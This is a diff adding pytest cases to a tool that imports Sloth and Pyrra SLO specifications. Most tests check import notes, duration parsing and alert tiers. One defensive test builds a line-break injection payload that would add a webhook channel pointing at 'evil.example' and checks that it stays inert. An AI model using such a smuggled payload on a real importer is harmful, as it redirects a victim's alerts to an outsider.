@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 import textwrap
 from pathlib import Path
 
@@ -159,7 +161,191 @@ def test_pyrra_grouping_is_a_breakdown_only_when_the_queries_can_be_grouped(metr
     assert tuple(slo.get("breakdown", ())) == breakdown
     assert slo["params"] == {"grouping": ["handler"]}
     if not breakdown:  # said, not dropped silently
-        assert converted.notes == ["api: grouping by handler is not a breakdown (the metric is not a plain "
-                                   "selector, so its queries cannot be grouped)"]
+        assert [n for n in converted.notes if "grouping" in n] == [
+            "api: grouping by handler is not a breakdown (the metric is not a plain selector, so its queries "
+            "cannot be grouped)"]
     else:
         assert "{{by}}" in slo["ratio"]["good"] and "{{by}}" in slo["ratio"]["total"]
+
+
+def test_sloth_queries_without_the_window_are_named_in_a_note(tmp_path: Path) -> None:
+    """Sloth substitutes {{.window}}; a query with a fixed range reads the same ratio in every window
+    (slotui's period budget would be the last 5 minutes'): imported as written, with a note."""
+    spec = tmp_path / "sloth.yaml"
+    spec.write_text(textwrap.dedent("""\
+        version: prometheus/v1
+        service: api
+        slos:
+          - name: fixed
+            objective: 99.9
+            sli: {events: {error_query: 'sum(rate(e[5m]))', total_query: 'sum(rate(t[5m]))'}}
+          - name: templated
+            objective: 99.9
+            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
+        """))
+    report, lc = _import(spec)
+    assert report.skipped == [] and lc.spec("api-fixed").total == "sum(rate(t[5m]))"
+    assert [n for n in report.notes if "{{window}}" in n] == [
+        f"{spec}: SLO 'api-fixed': its ratio queries do not use {{{{window}}}} (they look back a fixed range or "
+        "not at all): every window (the SLO window, each burn-rate window, the period) reads the same ratio; "
+        "write {{window}} (Sloth's {{.window}}) as their range"]
+
+
+def test_sloth_page_and_ticket_annotations_are_named_in_the_note(tmp_path: Path) -> None:
+    """A runbook or summary on only the page (or ticket) alert was dropped without a word."""
+    spec = tmp_path / "sloth.yaml"
+    spec.write_text(textwrap.dedent("""\
+        version: prometheus/v1
+        service: api
+        slos:
+          - name: a
+            objective: 99.9
+            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
+            alerting:
+              name: ApiHighErrorRate
+              page_alert: {annotations: {runbook: "https://r.example/page"}}
+              ticket_alert: {annotations: {summary: ticket}}
+        """))
+    report, lc = _import(spec)
+    assert lc.spec("api-a").runbook is None
+    assert report.notes == [f"{spec}: api-a: not carried over from Sloth's alerting: page alert annotations runbook; "
+                            "ticket alert annotations summary (slotui's alert labels are per SLO, not per page or "
+                            "ticket alert)"]
+
+
+@pytest.mark.parametrize(("window", "waits"), [("28d", "2m, 15m, 1h, 3h"), ("7d", "1m, 4m, 15m, 45m"),
+                                               ("30d", "2m, 16m, 1h4m, 3h13m")])
+def test_pyrra_per_tier_for_is_named_in_a_note(tmp_path: Path, window: str, waits: str) -> None:
+    """Pyrra's alerts wait for: window/20160, /2688, /672, /224 (2m, 15m, 1h, 3h at 28d; Go rounds
+    to the minute, halves up: 7d/20160 = 30s -> 1m); slotui fires as soon as both windows burn."""
+    slo = tmp_path / "pyrra.yaml"
+    slo.write_text(textwrap.dedent(f"""\
+        apiVersion: pyrra.dev/v1alpha1
+        kind: ServiceLevelObjective
+        metadata: {{name: p}}
+        spec:
+          target: "99.9"
+          window: {window}
+          indicator: {{ratio: {{errors: {{metric: e_total}}, total: {{metric: t_total}}}}}}
+        """))
+    report, lc = _import(slo)
+    assert lc.spec("p").for_ == 0
+    assert report.notes == [f"{slo}: p: Pyrra's alerts wait for: {waits} (one per tier); not imported (slotui's "
+                            "for: is per SLO), so slotui's tiers fire as soon as both windows burn"]
+    off = slo.read_text() + "  alerting: {burnrates: false}\n"
+    slo.write_text(off)
+    assert _import(slo)[0].notes == []  # no alerts, nothing waits
+
+
+@pytest.mark.parametrize(("window", "period"), [("28d", 28 * D), ("1d12h", 36 * H), ("1y", 365 * D), ("2w", 14 * D)])
+def test_pyrra_windows_are_prometheus_durations(tmp_path: Path, window: str, period: float) -> None:
+    """Pyrra reads window with Prometheus' ParseDuration: 1d12h and 1y (365 days) were refused as
+    'not a duration'."""
+    slo = tmp_path / "pyrra.yaml"
+    slo.write_text(textwrap.dedent(f"""\
+        apiVersion: pyrra.dev/v1alpha1
+        kind: ServiceLevelObjective
+        metadata: {{name: p}}
+        spec:
+          target: "99.5"
+          window: {window}
+          indicator: {{ratio: {{errors: {{metric: e_total}}, total: {{metric: t_total}}}}}}
+        """))
+    report, lc = _import(slo)
+    assert report.skipped == []
+    assert lc.spec("p").period == period and lc.spec("p").target == 0.995
+
+
+@pytest.mark.parametrize(("field", "reason"), [
+    ("window: 1M", "window '1M' is not a duration (expected e.g. 7d, 28d, 4w, 1d12h)"),
+    ("window: 0d", "window '0d' must be longer than 0"),
+    ("indicator: {latencyNative: {total: {metric: h}}}",
+     "latencyNative.latency None is not a duration (expected e.g. 100ms, 1s)"),
+    ("indicator: {latencyNative: {total: {metric: h}, latency: 0s}}",
+     "latencyNative.latency '0s' is not a duration (expected e.g. 100ms, 1s)"),
+])
+def test_pyrra_bad_window_or_latency_is_refused_naming_the_key(tmp_path: Path, field: str, reason: str) -> None:
+    base = {"window": "window: 28d", "indicator": "indicator: {ratio: {errors: {metric: e}, total: {metric: t}}}"}
+    base[field.split(":")[0]] = field
+    slo = tmp_path / "pyrra.yaml"
+    slo.write_text("apiVersion: pyrra.dev/v1alpha1\nkind: ServiceLevelObjective\nmetadata: {name: p}\nspec:\n"
+                   "  target: '99'\n" + "".join(f"  {v}\n" for v in base.values()))
+    report, _ = _import(slo)
+    assert [s.reason for s in report.skipped] == [reason]
+
+
+def test_kubectl_lists_of_pyrra_and_sloth_resources_are_imported(tmp_path: Path) -> None:
+    """``kubectl get slo,prometheusservicelevels -o yaml`` prints a ``kind: List`` of ``items``
+    (a Pyrra ServiceLevelObjectiveList the same way): refused as 'not an OpenSLO, Sloth or Pyrra
+    document (apiVersion 'v1')' before."""
+    pyrra = ("{apiVersion: pyrra.dev/v1alpha1, kind: ServiceLevelObjective, metadata: {name: %s}, spec: {target: '99',"
+             " window: 28d, indicator: {ratio: {errors: {metric: e_total}, total: {metric: t_total}}}}}")
+    text = textwrap.dedent(f"""\
+        apiVersion: v1
+        kind: List
+        items:
+          - {pyrra % "a"}
+          - apiVersion: sloth.slok.dev/v1
+            kind: PrometheusServiceLevel
+            metadata: {{name: b}}
+            spec:
+              service: svc
+              slos:
+                - name: avail
+                  objective: 99.9
+                  sli: {{events: {{errorQuery: 'sum(rate(e[{{{{.window}}}}]))', totalQuery: 'sum(rate(t[{{{{.window}}}}]))'}}}}
+          - apiVersion: pyrra.dev/v1alpha1
+            kind: ServiceLevelObjectiveList
+            items: [{pyrra % "c"}]
+        ---
+        - {pyrra % "d"}
+        """)
+    f = tmp_path / "list.yaml"
+    f.write_text(text)
+    report, lc = _import(f)
+    assert report.skipped == []
+    assert sorted(s.name for s in lc.specs) == ["a", "c", "d", "svc-avail"]
+    assert lc.spec("c").target == 0.99 and lc.spec("svc-avail").target == 0.999
+
+
+def test_a_short_pyrra_window_drops_only_the_tier_whose_windows_meet(tmp_path: Path) -> None:
+    """window 12h: Pyrra's fastest tier is 12h/672 = 64s -> 1m long and 12h/8064 = 5s -> 1m short (at
+    least 1m in slotui): a 1m/1m tier, which the loader refused, skipping the whole SLO."""
+    slo = tmp_path / "pyrra.yaml"
+    slo.write_text("apiVersion: pyrra.dev/v1alpha1\nkind: ServiceLevelObjective\nmetadata: {name: p}\n"
+                   "spec: {target: '99', window: 12h, indicator: {ratio: {errors: {metric: e}, total: {metric: t}}}}\n")
+    report, lc = _import(slo)
+    assert report.skipped == []
+    # 12h/112 = 6m26s -> 6m, 12h/1344 = 32s -> 1m; 12h/28 = 25m43s -> 26m, 12h/336 = 2m9s -> 2m;
+    # 12h/7 = 1h42m51s -> 1h43m, 12h/112 -> 6m
+    assert _tiers(lc.spec("p")) == [("critical", 6 * M, M, 7.0), ("warning", 26 * M, 2 * M, 2.0),
+                                    ("warning", 103 * M, 6 * M, 1.0)]
+    assert f"{slo}: p: the 1m/1m tier of a 12h window not imported (its short window is not shorter than its long " \
+           "one)" in report.notes
+    # Pyrra's for: 12h/20160 = 2s -> 0s, /2688 = 16s -> 0s, /672 = 64s -> 1m, /224 = 3m13s -> 3m
+    assert any("Pyrra's alerts wait for: 0s, 0s, 1m, 3m (one per tier)" in n for n in report.notes)
+
+
+@pytest.mark.parametrize("brk", ["\n", "\r", "\u2028", "\x85"])
+def test_a_line_break_in_peer_text_cannot_write_yaml_into_the_imported_file(tmp_path: Path, brk: str) -> None:
+    """Notes are written as '# note:' comments; a page-alert label value with a line break ended the
+    comment, and the rest became YAML of the SLO file: here an alerts section sending every alert to
+    someone else's webhook."""
+    import yaml
+
+    payload = f"x{brk}alerts: {{channels: {{evil: {{type: webhook, url: 'https://evil.example/'}}}}}} #"
+    spec = tmp_path / "sloth.yaml"
+    spec.write_text(yaml.safe_dump({"version": "prometheus/v1", "service": "api", "slos": [{
+        "name": "a", "objective": 99.9,
+        "sli": {"events": {"error_query": "sum(rate(e[{{.window}}]))", "total_query": "sum(rate(t[{{.window}}]))"}},
+        "alerting": {"name": "X", "page_alert": {"labels": {"tier": payload}}}}]}, allow_unicode=True))
+    report = import_files([str(spec)])
+    text = render(report.config, report.notes, [str(spec)])
+    assert "evil" in text  # named in the note, as text
+    assert set(yaml.safe_load(text)) == {"version", "sources", "slos"}
+    lc = load_text(text, env={})
+    assert lc.config.alerts.channels == {}
+    done = subprocess.run([sys.executable, "-m", "slotui", "import", str(spec)],
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0 and set(yaml.safe_load(done.stdout)) == {"version", "sources", "slos"}
+    assert all(line.startswith(("note: ", "slotui")) for line in done.stderr.splitlines()), done.stderr
